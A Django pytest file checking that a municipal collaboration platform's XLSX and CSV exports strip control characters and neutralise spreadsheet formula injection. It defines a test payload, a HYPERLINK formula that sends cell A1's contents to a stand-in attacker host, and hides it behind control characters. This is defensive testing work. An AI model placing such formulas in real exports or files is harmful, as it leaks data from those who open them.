"""Every XLSX export opens, whatever text reached the database.

The request middleware refuses control characters, but text reaches the database through
imports, the API, the admin site and older data too. So each test writes the hostile values
straight to the models, downloads the export through the test client and opens it with
openpyxl: the control characters XML cannot hold are gone (openpyxl refuses to write them),
the rest of the text is kept, and text that a spreadsheet would run as a formula is written
with a leading quote even when a control character came before the ``=``.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from mellanrum.collaborations.models import Initiative
from mellanrum.conftest import alfa, beta, category, superuser  # noqa: F401  (fixtures)
from mellanrum.core.models import User
from mellanrum.landscape.models import Category, Organisation

pytestmark = pytest.mark.django_db

# Every character openpyxl refuses: \x00 cannot be stored by PostgreSQL, so it is left out.
CONTROL = "".join(chr(c) for c in [*range(1, 9), 11, 12, *range(14, 32)])
FORMULA = '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def hostile(text: str) -> str:
    """``text`` with control characters in front, inside and after it."""
    return f"\x01{text[:3]}{CONTROL}{text[3:]}\x1f"


def sneaky_formula() -> str:
    """A formula behind a control character: stripped first, it must still be neutralised."""
    return "\x02\x0b" + FORMULA


def strings(content: bytes) -> set[str]:
    """Every text cell of every sheet, after checking the workbook holds data only."""
    book = load_workbook(io.BytesIO(content))
    found: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not ILLEGAL_CHARACTERS_RE.search(cell.value), cell.value
                    found.add(cell.value)
    return found


def download(client: Client, url: str, **kwargs: object) -> set[str]:
    response = client.get(url, **kwargs)  # type: ignore[arg-type]
    assert response.status_code == 200, url
    assert response["Content-Type"] == XLSX
    return strings(response.content)


def contains(cells: set[str], text: str) -> bool:
    return any(text in cell for cell in cells)


@pytest.fixture
def admin(client: Client, superuser: User) -> Client:  # noqa: F811
    client.force_login(superuser)
    return client


def make_initiative(superuser: User, lead: Organisation,  # noqa: F811
                    partner: Organisation) -> Initiative:
    from mellanrum.collaborations.actions import do_add_partner, do_create_initiative
    from mellanrum.collaborations.consent_actions import do_answer_invitation

    initiative = do_create_initiative(acting_user=superuser, lead=lead, title="Samverkan",
                                      purpose="Syfte", phase="idea", is_public=True)
    do_answer_invitation(do_add_partner(initiative, acting_user=superuser,
                                        organisation=partner),
                         acting_user=None, accept=True)
    return initiative


def test_the_activity_export_and_the_template(admin: Client, alfa: Organisation,  # noqa: F811
                                              superuser: User,  # noqa: F811
                                              category: Category) -> None:  # noqa: F811
    from mellanrum.landscape.actions import do_create_activity

    activity = do_create_activity(alfa, acting_user=superuser, key="bygglov", name="Bygglov",
                                  kind="service")
    type(activity).objects.filter(pk=activity.pk).update(
        name=hostile("Bygglovsansökan"), description=sneaky_formula())
    for language in ("sv", "en"):
        cells = download(admin, reverse("landscape:export", args=[alfa.code, "xlsx"]),
                         HTTP_ACCEPT_LANGUAGE=language)
        assert "Bygglovsansökan" in cells
        assert "'" + FORMULA in cells and FORMULA not in cells
    Category.objects.filter(pk=category.pk).update(label=hostile("Bygga och bo"))
    cells = download(admin, reverse("landscape:template", args=["xlsx"]))
    assert "Bygga och bo" in cells


def test_the_attendee_list(admin: Client, alfa: Organisation,  # noqa: F811
                           superuser: User) -> None:  # noqa: F811
    from mellanrum.community.actions import do_create_event, do_register

    start = timezone.now() + datetime.timedelta(days=20)
    event = do_create_event(acting_user=superuser, organiser=alfa, title="Seminarium",
                            description="Program", place="Sal", starts_at=start,
                            ends_at=start + datetime.timedelta(hours=2))
    guest = User.objects.create(username="gast", first_name="Gäst", organisation=alfa)
    do_register(event, guest)
    User.objects.filter(pk=guest.pk).update(first_name=sneaky_formula(),
                                            last_name=hostile("Gästsson"))
    Organisation.objects.filter(pk=alfa.pk).update(name=hostile("Alfaby kommun"))
    cells = download(admin, reverse("community:event_attendees", args=[event.pk, "xlsx"]))
    assert {"'" + FORMULA + " Gästsson", "Alfaby kommun"} <= cells


def test_the_portfolio_ledger_and_budget_sheet(admin: Client, alfa: Organisation,  # noqa: F811
                                               beta: Organisation,  # noqa: F811
                                               superuser: User) -> None:  # noqa: F811
    from mellanrum.benefits import actions as ledger
    from mellanrum.benefits.models import LedgerRow, PartnerBudget
    from mellanrum.collaborations.actions import do_add_goal, do_add_statement
    from mellanrum.collaborations.models import Goal, Statement

    initiative = make_initiative(superuser, alfa, beta)
    ledger.do_choose_cost_split(initiative, acting_user=superuser, joint_cost=Decimal(800),
                                standalone={alfa.code: 400, beta.code: 600}, method="shapley",
                                first_year=2026)
    ledger.do_add_ledger_row(initiative, acting_user=superuser, organisation=beta, year=2027,
                             kind="money", planned=Decimal(200), description="Nytta")
    ledger.do_set_partner_budget(initiative, acting_user=superuser, organisation=beta,
                                 committee="Nämnd", activity="Verksamhet")
    do_add_goal(initiative, acting_user=superuser, title="Mål", indicator="Andel",
                target="90 %", target_date=timezone.localdate().replace(year=2099))
    do_add_statement(initiative, acting_user=superuser, organisation=beta, kind="goal",
                     text="Eget mål")

    Initiative.objects.filter(pk=initiative.pk).update(title=hostile("Gemensam e-tjänst"))
    Organisation.objects.filter(pk=beta.pk).update(name=hostile("Betaby kommun"))
    LedgerRow.objects.filter(description="Nytta").update(description=sneaky_formula())
    PartnerBudget.objects.update(committee=hostile("Byggnadsnämnden"),
                                 activity=sneaky_formula())
    Goal.objects.update(title=hostile("Kortare väntetid"))
    Statement.objects.update(text=sneaky_formula())

    portfolio = download(admin, reverse("collaborations:portfolio_export"))
    assert "Gemensam e-tjänst" in portfolio
    assert contains(portfolio, "Betaby kommun")

    ledger_cells = download(admin, reverse("benefits:ledger_export", args=[initiative.pk]))
    assert "Gemensam e-tjänst" in ledger_cells
    assert "Betaby kommun" in ledger_cells
    assert "'" + FORMULA in ledger_cells

    budget = download(admin, reverse("benefits:budget_sheet_export",
                                     args=[initiative.pk, beta.code]))
    assert "Betaby kommun: Gemensam e-tjänst" in budget
    assert {"Byggnadsnämnden", "Kortare väntetid", "'" + FORMULA} <= budget
    assert FORMULA not in budget


def test_the_cost_sharing_calculator(client: Client, alfa: Organisation,  # noqa: F811
                                     beta: Organisation) -> None:  # noqa: F811
    Organisation.objects.filter(pk=beta.pk).update(name=hostile("Betaby kommun"))
    data = {
        "p-TOTAL_FORMS": "5", "p-INITIAL_FORMS": "0", "p-MIN_NUM_FORMS": "0",
        "p-MAX_NUM_FORMS": "20", "kind": "cost", "total": "1 500 000",
        "title": "-Plattform", "action": "export",
        "p-0-organisation": alfa.code, "p-0-alone": "1 000 000", "p-0-usage": "",
        "p-1-organisation": beta.code, "p-1-alone": "800 000", "p-1-usage": "",
    }
    response = client.post(reverse("benefits:calculator"), data)
    assert response.status_code == 200
    cells = strings(response.content)
    assert {"Betaby kommun", "'-Plattform"} <= cells


def test_the_opportunities(admin: Client, alfa: Organisation, beta: Organisation,  # noqa: F811
                           superuser: User) -> None:  # noqa: F811
    from mellanrum.commonality.actions import do_run_analysis
    from mellanrum.commonality.analysis import Scope
    from mellanrum.commonality.models import Concept, Opportunity
    from mellanrum.landscape.actions import do_create_activity

    for organisation in (alfa, beta):
        do_create_activity(organisation, acting_user=superuser, key="bygglov",
                           name="Bygglov", kind="service", annual_cost_sek=Decimal(1000))
    do_run_analysis(Scope.of(), acting_user=superuser)
    assert Opportunity.objects.exists()
    Concept.objects.update(label=hostile("Bygglovsärenden"))
    Opportunity.objects.update(explanation_sv=sneaky_formula(), outside=[hostile("Alfa")])
    cells = download(admin, reverse("commonality:opportunities_xlsx"))
    assert {"Bygglovsärenden", "'" + FORMULA} <= cells


def test_the_kolada_figures(client: Client, alfa: Organisation) -> None:  # noqa: F811
    from mellanrum.kolada.models import KoladaValue

    KoladaValue.objects.create(kpi_id="N00901", municipality_code=alfa.code, year=2024,
                               gender="T", value=20.0, status=hostile("Preliminär"),
                               changed_at=timezone.now())
    Organisation.objects.filter(pk=alfa.pk).update(name=sneaky_formula())
    cells = download(client, "/nyckeltal/N00901/export.xlsx")
    assert {"'" + FORMULA, "Preliminär"} <= cells
    # The CSV beside it quotes a formula too, and keeps numbers as they are.
    Organisation.objects.filter(pk=alfa.pk).update(name=FORMULA)
    text = client.get("/nyckeltal/N00901/export.csv").content.decode()
    row = next(r for r in csv.reader(io.StringIO(text)) if r and r[1] == alfa.code)
    assert row[2] == "'" + FORMULA and row[5] == "20.0"


def test_the_collaboration_health_results(admin: Client, alfa: Organisation,  # noqa: F811
                                          beta: Organisation,  # noqa: F811
                                          superuser: User) -> None:  # noqa: F811
    from mellanrum.health import actions as health
    from mellanrum.health.models import Response, Round

    initiative = make_initiative(superuser, alfa, beta)
    round_ = health.do_open_round(initiative, acting_user=superuser, title="Omgång")
    links = health.do_create_invitations(round_, acting_user=superuser, organisation=beta,
                                         count=3)
    for link in links:
        health.do_submit_response(link.token, answers=dict.fromkeys(round_.instrument.item_keys,
                                                                    4),
                                  comment="Kommentar")
    health.do_close_round(round_, acting_user=superuser)
    Round.objects.filter(pk=round_.pk).update(title=hostile("Våren"))
    Response.objects.update(comment=sneaky_formula())
    Organisation.objects.filter(pk=beta.pk).update(name=hostile("Betaby kommun"))
    cells = download(admin, reverse("health:round_export", args=[round_.pk]))
    assert {"Våren", "'" + FORMULA, "Betaby kommun"} <= cells
